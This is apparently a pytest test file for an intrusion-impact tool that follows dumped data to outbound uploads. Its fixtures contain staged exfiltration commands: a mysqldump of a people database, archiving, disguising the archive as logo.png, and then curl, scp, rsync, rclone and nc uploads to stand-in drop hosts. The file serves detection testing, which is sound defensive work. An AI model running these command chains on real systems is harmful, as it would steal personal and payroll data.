"""What the intruder's files hold is followed from the dump to what is sent, by path, machine, login and time."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from support.assessed import assessed, at, gravest, intrusion, on_host
from support.events import event
from vigilia.impact.hits.commands import target_of
from vigilia.impact.hits.file_trail import DERIVED, FileTrail, archive_names
from vigilia.impact.hits.hit import Found
from vigilia.model.profile import DataClass

_CLASSES = [
    DataClass(id="people", label="People helped", where=["table:civicrm", "path:/srv/people"]),
    DataClass(id="pay", label="Payroll", where=["share:\\\\FS01\\Pay", "path:/srv/pay"]),
]
_SEEN = intrusion(hosts=["web1"])


def _command(line: str, channel: str = "archive-staging", host: str = "web1") -> Found:
    moment = dt.datetime(2026, 1, 21, 10, tzinfo=dt.UTC)
    return Found(channel, "accessed", "x", "", 0.9, moment, ("1",), line, host)


def _run(line: str, hour: int, minute: int = 0, host: str = "web1", **more: Any) -> dict[str, Any]:
    row = event(0, at=at(22, hour, minute), vigilia__source="linux.auditd", event__action="EXECVE", host__name=host,
                process__command_line=line)  # fmt: skip
    return row | {name.replace("__", "."): value for name, value in more.items()}


def _sent(hour: int, minute: int, host: str = "files.dropbucket.example", sent: int = 61_337_221) -> dict[str, Any]:
    return event(0, at=at(22, hour, minute), vigilia__source="firewall.fortigate", event__action="accept",
                 source__ip="10.8.0.5", destination__domain=host, destination__port=443, source__bytes=sent,
                 http__request__method="CONNECT")  # fmt: skip


def _everyday() -> list[dict[str, Any]]:
    rows = [on_host(day, "notepad.exe", host) for day in range(60) for host in ("WS07", "FS01")]
    for day in range(60):
        for hour in (3, 9, 15, 21):
            rows.append(_run("uptime", hour) | {"@timestamp": event(0, at=at(day, hour))["@timestamp"]})
            row = _sent(hour, 0, "mirror.example", 4000)
            rows.append(row | {"@timestamp": event(0, at=at(day, hour))["@timestamp"]})
    return rows


def _levels(intruder: list[dict[str, Any]], *more: dict[str, Any]) -> dict[tuple[str, str], str]:
    result = assessed([*_everyday(), *more], intruder, _CLASSES, _SEEN)
    ways = ("database-dump", "archive-staging", "web-upload")
    pairs = [(one.id, way) for one in _CLASSES for way in ways if (one.id, way) != ("pay", "database-dump")]
    return {(kind[:2], way.partition("-")[0]): gravest(result, kind, way).level for kind, way in pairs}


_ALL_LEFT = {("pe", "database"): "E1", ("pe", "archive"): "E1", ("pe", "web"): "E1", ("pa", "archive"): "E3",
             ("pa", "web"): "E3"}  # fmt: skip


@pytest.mark.parametrize(
    "lines",
    [
        ["mysqldump --result-file=/tmp/.c/d.sql civicrm", "tar czf /tmp/.c/d.tgz /tmp/.c/d.sql",
         "curl -x http://10.8.0.3:8080 -T /tmp/.c/d.tgz https://files.dropbucket.example/u/"],
        ["sh -c mysqldump civicrm > /tmp/.c/d", "zip -r /tmp/.cache /tmp/.c",
         "curl -F f=@/tmp/.cache.zip https://files.dropbucket.example/u/"],
        ["mysqldump civicrm", "gzip /tmp/all.sql", "scp /tmp/all.sql.gz u@files.dropbucket.example:/in"],
        ["mysqldump -r /tmp/d civicrm", "tar cf /tmp/x /tmp/d", "mv /tmp/x /var/tmp/logo.png",
         "curl -T /var/tmp/logo.png https://files.dropbucket.example/u/"],
        ["mysqldump -r /tmp/d.sql civicrm", "tar czf /tmp/d.tgz /tmp/d.sql", "split -b 9m /tmp/d.tgz /tmp/d.tgz.",
         "rsync /tmp/d.tgz.aa u@files.dropbucket.example:in/"],
    ],
    ids=["by path", "by folder", "by time", "renamed", "in parts"],
)  # fmt: skip
def test_a_dump_that_was_packed_and_sent_is_said_to_have_left_and_nothing_else_is_blamed(lines: list[str]) -> None:
    steps = [_run(line, 10, 5 * number) for number, line in enumerate(lines)]
    assert _levels(steps, _sent(10, 5 * len(lines) - 4)) == _ALL_LEFT


def test_the_sentence_has_the_bytes_and_the_name_of_the_place_that_they_went_to() -> None:
    steps = [
        _run("mysqldump --result-file=/tmp/.c/d.sql civicrm", 10),
        _run("tar czf /tmp/.c/d.tgz /tmp/.c/d.sql", 10, 5),
        _run("curl -T /tmp/.c/d.tgz https://files.dropbucket.example/u/", 10, 10),
    ]
    row = gravest(assessed([*_everyday(), _sent(10, 11)], steps, _CLASSES, _SEEN), "people", "web-upload")
    assert "61.3 MB went to files.dropbucket.example" in row.statement
    assert "curl" in row.statement


def test_what_another_machine_or_another_login_packed_is_not_blamed() -> None:
    packs = [
        _run("tar czf /tmp/p.tgz /srv/people", 8, session__id="ses1"),
        _run("tar czf /tmp/q.tgz /srv/pay", 9, session__id="ses2"),
    ]
    send = _run("curl -T - https://files.dropbucket.example/u/", 10, session__id="ses1")
    found = _levels([*packs, send])
    assert (found["pe", "web"], found["pa", "web"]) == ("E1", "E3")
    elsewhere = _run("tar czf /tmp/q.tgz /srv/pay", 9, host="web2")
    found = _levels([packs[0], elsewhere, send | {"session.id": None}])
    assert (found["pe", "web"], found["pa", "web"]) == ("E1", "E3")


def test_a_command_that_fetches_is_no_upload() -> None:
    pack = _run("tar czf /tmp/p.tgz /srv/people", 8)
    assert _levels([pack, _run("scp u@tools.example:/x.tgz /tmp/", 9)])["pe", "web"] == "E3"
    assert _levels([pack, _run("scp /tmp/p.tgz u@tools.example:/in", 9)])["pe", "web"] == "E1"


@pytest.mark.parametrize(
    ("line", "target"),
    [
        ("curl -x http://10.0.0.3:8080 -T /tmp/a https://drop.example:8443/u", "drop.example"),
        ("curl --proxy=http://10.0.0.3 -H x-key:abc -T a https://u:p@drop.example/", "drop.example"),
        ("scp -i key a.tgz me@203.0.113.9:/in", "203.0.113.9"),
        ("scp me@203.0.113.9:/in/a.tgz .", None),
        ("cd /tmp; scp a.tgz me@203.0.113.9:/in && rm a.tgz", "203.0.113.9"),
        ("rclone copy c:/t/a.7z store:in", "store"),
        ("rclone copy store:in c:/t", None),
        ("rclone copy c:/t store:in --include a.7z.* --transfers 4", "store"),
        ("rclone copy -P store:in c:/t --transfers 4", None),
        ("rsync -a web2:dir out --exclude x", None),
        ("nc 203.0.113.9 443", "203.0.113.9"),
        ("aws s3 cp /tmp/a s3://bucket/x", "bucket"),
        ("restic backup /srv", ""),
    ],
)
def test_where_a_command_sends_something_to_is_read_from_it(line: str, target: str | None) -> None:
    assert target_of(line) == target


def test_a_file_is_known_by_its_path_on_its_machine_and_an_archive_by_its_name_anywhere() -> None:
    trail = FileTrail()
    trail.keep(_command("tar czf /tmp/out /srv/people"), {"people"})
    trail.keep(_command("7z a c:/t/b.7z //fs01/pay"), {"pay"})
    assert trail.held(_command("curl -T /tmp/out https://a.example/")) == {"people"}
    assert trail.held(_command("curl -T /tmp/out https://a.example/", host="web2")) == set()
    assert trail.held(_command("curl -T /srv/www/b.7z https://a.example/", host="web2")) == {"pay"}
    assert trail.held(_command("curl -T /tmp/output https://a.example/")) == set()
    trail.keep(_command("/usr/bin/gpg -c /tmp/out", DERIVED), {"people"})
    assert trail.held(_command("/usr/bin/gpg -c /etc/motd", DERIVED)) == set(), "the program is no file that it wrote"


@given(st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=60), max_size=8))
def test_no_command_line_is_too_odd_to_be_read(words: list[str]) -> None:
    trail, line = FileTrail(), " ".join(words)
    trail.keep(_command(line), {"people"})
    assert trail.held(_command(line)) <= {"people"}
    assert all("/" not in name for name in archive_names(line))
    target_of(line)
